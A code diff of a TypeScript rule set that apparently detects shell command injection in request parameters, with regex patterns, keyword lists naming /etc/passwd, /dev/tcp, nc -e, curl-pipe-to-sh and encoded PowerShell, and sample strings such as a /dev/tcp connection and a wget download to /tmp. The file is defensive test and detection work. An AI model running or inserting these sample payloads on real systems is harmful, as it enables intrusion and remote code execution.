@@ -1,125 +1,134 @@
-import type { Rule } from '../rule.js'
-import { findInjectedCommand, findLeadingCommand, findLoneCommand, findProgramPath } from './command-line.js'
-import { POWERSHELL_COMMAND, POWERSHELL_VERB_NOUN } from './windows-commands.js'
+import { pairsOf, type Rule } from '../rule.js'
+import { findInjectedCommand, findLeadingCommand, findLoneCommand, findProgramPath, LEADING_WORDS } from './command-line.js'
+import { POWERSHELL_COMMAND, POWERSHELL_LITERALS, POWERSHELL_VERB_NOUN } from './windows-commands.js'
+
+/** Where a word may begin that is quoted apart, or be so. */
+const QUOTED_STARTS = `\\ '' "" ${pairsOf('\n\t ;|&`(', '\' "')}`
 
 /** Commands: names of programs where a shell would run them. Shell syntax without names is in command-syntax. */
 export const COMMAND_RULES: readonly Rule[] = [
   {
-    // `; cat /etc/passwd`, `| sh`, `$(id)`, `` `whoami` ``, `& ping -c 1 host`.
     id: 'command-after-separator',
+    why: '`; cat /etc/passwd`, `| sh`, `$(id)`, `` `whoami` ``, `& ping -c 1 host`.',
     reach: 'parameter',
-    literals: [';', '|', '&', '\n', '\r', '`', '$(', '<(', '>(', '{', 'do ', 'then '],
+    except: ['standard-header', 'name'],
+    literals: '; | & \n \r ` $( <( >( { do␣ then␣',
+    follows: LEADING_WORDS,
     test: findInjectedCommand,
-    except: ['standard-header', 'name']
+    finds: '`id`',
+    leaves: '${name'
   },
   {
-    // Whatever program, when an option or a path follows it behind a separator: `; anything -rf /x`.
     id: 'command-unknown-after-separator',
+    why: 'Whatever program, when an option or a path follows it behind a separator: `; anything -rf /x`.',
     reach: 'parameter',
-    literals: [';', '|', '`', '$('],
+    except: ['header', 'path', 'name'],
+    literals: '; | ` $(',
     test: /(?:[;|]|&&|\n|`|\$\()\s{0,8}(?:\.{0,2}\/)?[a-z][\w.+-]{1,24}(?:\s{1,4}-{1,2}[a-z][\w-]{0,24}(?:[\s=;|`)]|$)|\s{1,4}~?\/\w[\w./*?-]{1,64}|\s{0,4}\|\s{0,4}(?:ba|da|z|k)?sh\b)/i,
-    except: ['header', 'path', 'name']
+    finds: ';uname -a',
+    leaves: 'a || b'
   },
   {
-    // A program with an option as the whole value.
     id: 'command-with-option',
+    why: 'A program with an option as the whole value.',
     reach: 'parameter',
-    literals: [' -', '\t-'],
+    except: ['path', 'name'],
+    literals: '␣- \t-',
     test: /^\s{0,4}["']?(?:\w{1,16}=)?[a-z][\w.]{1,24}(?:-[\w.]{1,16}){0,3}(?:\s[a-z]{2,16})?\s{1,4}(?:--[a-z][a-z-]{1,24}(?:[\s=].{0,200})?|-[a-z]{1,2}\s{1,4}\S.{0,200})$/s,
-    except: ['path', 'name']
+    finds: 'bash -c "exec 3<>/dev/tcp/192.0.2.8/80"',
+    leaves: '2 * 3 - 1'
   },
   {
-    // As above in names of parameters, which are often free text when a body is no form.
     id: 'command-after-separator-in-name',
+    why: 'As above in names of parameters, which are often free text when a body is no form.',
     reach: 'string',
-    literals: [';', '|', '`', '$('],
+    only: ['name'],
+    literals: '; | ` $(',
+    follows: LEADING_WORDS,
     test: findInjectedCommand,
-    origins: ['name']
+    finds: '`id`',
+    leaves: 'a || b'
   },
   {
-    // `wget http://…`, `/bin/sh -c`, `time curl host`.
     id: 'command-line',
+    why: '`wget http://…`, `/bin/sh -c`, `time curl host`.',
     reach: 'parameter',
+    except: ['path', 'name'],
+    begins: LEADING_WORDS,
+    needs: '␣<>|/-;\n',
     test: findLeadingCommand,
-    except: ['path', 'name']
+    finds: '`uname -a`',
+    leaves: 'Dublin'
   },
   {
-    // A string of a message that begins with a separator and a command.
     id: 'command-leads-string',
+    why: 'A string of a message that begins with a separator and a command.',
     reach: 'field',
-    literals: [';', '|', '&', '`', '$('],
+    literals: '; | & ` $(',
     test: (text) =>
       text.length < 200 && /^\s*["']?\)?\s*(?:[;|]|&&|\$\(|`[^`]{2,64}`$)[\s+]*["']?\(?/.test(text)
         ? findInjectedCommand(text.replace(/\+/g, ' '))
-        : -1
+        : -1,
+    finds: '`id`',
+    leaves: 'a || b'
   },
   {
-    // A command that ends a value of another sort: `8.8.8.8; cat /etc/passwd`.
     id: 'command-chained-in-string',
+    why: 'A command that ends a value of another sort: `8.8.8.8; cat /etc/passwd`.',
     reach: 'field',
-    literals: [
-      '/etc/passwd',
-      '/etc/shadow',
-      '/bin/sh',
-      '/bin/bash',
-      '/dev/tcp/',
-      '| sh',
-      '|sh',
-      '| bash',
-      '|bash',
-      'nc -e',
-      '; rm -rf /',
-      ';id',
-      '; id',
-      '|id',
-      '| id',
-      '`id`',
-      '$(id)',
-      '$(whoami)',
-      '`whoami`',
-      ';ls',
-      '; ls',
-      'whoami'
-    ],
+    except: ['xml'],
+    literals:
+      '/etc/passwd /etc/shadow /bin/sh /bin/bash /dev/tcp/ |␣sh |sh |␣bash |bash nc␣-e ;␣rm␣-rf␣/ ;id ;␣id |id |␣id `id` $(id) $(whoami) `whoami` ;ls ;␣ls whoami',
     test: /[;|&`\n]\s{0,8}(?:cat|less|more|head|tail|tac|nl)\s{1,8}\/etc\/(?:passwd|shadow|hosts)|\/dev\/tcp\/[\w.]+\/\d|^[^\s;|&]{1,64}\s{0,8}(?:[;|`]|&&|\$\()\s{0,8}(?:cat|id|whoami|uname|ls|nc|wget|curl|ping|sleep|nslookup|rm)\b[\w\s./:-]{0,64}[`)]?;?$|\bnc\s{1,8}-[a-z]{0,8}e[a-z]{0,8}\s|[;|&]\s{0,8}(?:\/bin\/)?(?:ba)?sh\s{1,8}-[ci]\b|\b(?:curl|wget)\s[^|;]{4,128}\|\s{0,8}(?:sudo\s{1,8})?(?:ba)?sh\s{0,8}$/,
-    except: ['xml']
+    finds: "w'ho'ami;ls -la",
+    leaves:
+      'package main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\nfunc main() {\n\tout, err := exec.Command("cat", "/etc/passwd").Output()\n\tif err != nil || len(out) == 0 {\n\t\tpanic(err)\n\t}\n\tfmt.Println(string(out))\n}\n'
   },
   {
-    // A user agent that is the name of a program and nothing else.
     id: 'command-lone-in-header',
+    why: 'A user agent that is the name of a program and nothing else.',
     reach: 'parameter',
+    only: ['header'],
+    begins: LEADING_WORDS,
     test: findLoneCommand,
-    origins: ['header']
+    finds: 'id',
+    leaves: 'Dublin'
   },
   {
-    // A word that is quoted apart so that no filter knows it: `'wh'oami`, `c''at`.
     id: 'command-quoted-apart',
+    why: "A word that is quoted apart so that no filter knows it: `'wh'oami`, `c''at`.",
     reach: 'string',
-    literals: ["'", '"', '\\'],
+    except: ['path'],
+    literals: QUOTED_STARTS,
     test: findQuotedApart,
-    except: ['path']
+    finds: 'c\\at /etc/hostname',
+    leaves: "O'Brien"
   },
   {
-    // A program by its path.
     id: 'command-program-path',
+    why: 'A program by its path.',
     reach: 'parameter',
-    literals: ['bin/'],
+    except: ['path', 'name'],
+    literals: 'bin/',
     test: findProgramPath,
-    except: ['path', 'name']
+    finds: '\n/usr/bin/id\n',
+    leaves: 'the bin/ folder'
   },
   {
-    // A script that the shell reads into itself: `; . ./x`.
     id: 'command-dot-source',
+    why: 'A script that the shell reads into itself: `; . ./x`.',
     reach: 'parameter',
-    literals: ['. '],
+    except: ['header', 'path'],
+    literals: '.␣',
     test: /(?:[;|&`]|\$\()\s{0,4}\.\s{1,4}[\w~/$.]/,
-    except: ['header', 'path']
+    finds: '; . ./a',
+    leaves: 'a ... b. c'
   },
   {
-    // PowerShell, by its commands, aliases and options.
     id: 'command-powershell',
+    why: 'PowerShell, by its commands, aliases and options.',
     reach: 'parameter',
-    literals: ['-', 'iex', 'iwr', 'powershell', 'pwsh', '[system.', 'downloadstring', 'new-object'],
+    literals: POWERSHELL_LITERALS,
     test: (text) => {
       const named = text.search(POWERSHELL_COMMAND)
       if (named >= 0) return named
@@ -128,29 +137,39 @@ export const COMMAND_RULES: readonly Rule[] = [
       return text.search(
         /(?:^|[;|&\s(`'"])(?:iex|iwr|irm|icm)\s{0,8}[\s('"$]\s{0,8}[('"$\w]|\b(?:powershell|pwsh)(?:\.exe)?["']?\s+[-/]|\[System\.\w+[.\]]|\.Download(?:String|File|Data)\s*\(|\bNew-Object\b|\s-e(?:nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{16,}/i
       )
-    }
+    },
+    finds: 'Get-Widget -All',
+    leaves: 'Add-On'
   },
   {
-    // PowerShell that downloads or decodes, in a string.
     id: 'command-powershell-in-string',
+    why: 'PowerShell that downloads or decodes, in a string.',
     reach: 'field',
-    literals: ['powershell', 'downloadstring', 'invoke-expression', 'iex'],
-    test: /\bpowershell(?:\.exe)?\s{1,8}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s{1,8}[A-Za-z0-9+/=]{16,}|\b(?:iex|invoke-expression)\s{0,8}\(?\s{0,8}\(?\s{0,8}new-object\b|\.downloadstring\s{0,8}\(\s{0,8}['"]https?:/i
+    literals: 'powershell downloadstring invoke-expression iex',
+    test: /\bpowershell(?:\.exe)?\s{1,8}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s{1,8}[A-Za-z0-9+/=]{16,}|\b(?:iex|invoke-expression)\s{0,8}\(?\s{0,8}\(?\s{0,8}new-object\b|\.downloadstring\s{0,8}\(\s{0,8}['"]https?:/i,
+    finds: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
+    leaves: 'open powershell and look'
   },
   {
-    // cmd.exe with an option.
     id: 'command-cmd-exe',
+    why: 'cmd.exe with an option.',
     reach: 'string',
     wholeOnly: true,
-    literals: ['cmd', 'command.com', '%comspec%'],
-    test: /\bcmd(?:\.exe|32)?["']?\s*\/[ckrsv]\b|\bcommand\.com\b|%comspec%|\bcmd\.exe\b/i
+    literals: 'cmd command.com %comspec%',
+    test: /\bcmd(?:\.exe|32)?["']?\s*\/[ckrsv]\b|\bcommand\.com\b|%comspec%|\bcmd\.exe\b/i,
+    finds: 'cmd.exe /c net user',
+    leaves:
+      'import os, subprocess\n\ndef run(cmd: str) -> str:\n    """Runs a command; returns its output."""\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout.decode()\n\nif __name__ == "__main__":\n    print(run("ls -la /etc | sort"), os.system("id"))\n    print("{}".format(1).__class__.__mro__)\n'
   },
   {
-    // A string of a message that is a command line only an intruder types.
     id: 'command-line-in-string',
+    why: 'A string of a message that is a command line only an intruder types.',
     reach: 'string',
-    literals: ['/etc/', 'bash -i', '/bin/', 'nc ', 'rm -rf /', 'whoami', 'wget ', 'curl '],
-    test: /^["'\s]{0,4}(?:(?:cat|less|more|head|tail|nl|tac|cp|strings)\s+\/(?:etc|proc|root|var\/log)\/|(?:ba|z|k)?sh\s+-i\b|\/(?:usr\/)?bin\/(?:\w{0,3}sh|cat|nc|id|ls|wget|curl|perl|python\d?)\b(?:\s+-|\s+\/|$)|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.]+\s+\d{2,5}(?:\s+-e|\s*$)|rm\s+-rf\s+\/(?:\s|\*|$)|whoami$|(?:wget|curl)\s[^|;&]{4,128}(?:[|;]\s*(?:ba)?sh|&&\s*(?:chmod|sh|bash)|-O\s*\/tmp))/
+    literals: '/etc/ bash␣-i /bin/ nc␣ rm␣-rf␣/ whoami wget␣ curl␣',
+    test: /^["'\s]{0,4}(?:(?:cat|less|more|head|tail|nl|tac|cp|strings)\s+\/(?:etc|proc|root|var\/log)\/|(?:ba|z|k)?sh\s+-i\b|\/(?:usr\/)?bin\/(?:\w{0,3}sh|cat|nc|id|ls|wget|curl|perl|python\d?)\b(?:\s+-|\s+\/|$)|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.]+\s+\d{2,5}(?:\s+-e|\s*$)|rm\s+-rf\s+\/(?:\s|\*|$)|whoami$|(?:wget|curl)\s[^|;&]{4,128}(?:[|;]\s*(?:ba)?sh|&&\s*(?:chmod|sh|bash)|-O\s*\/tmp))/,
+    finds: 'wget http://192.0.2.6/bot.sh -O /tmp/b',
+    leaves:
+      '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
   }
 ]
 
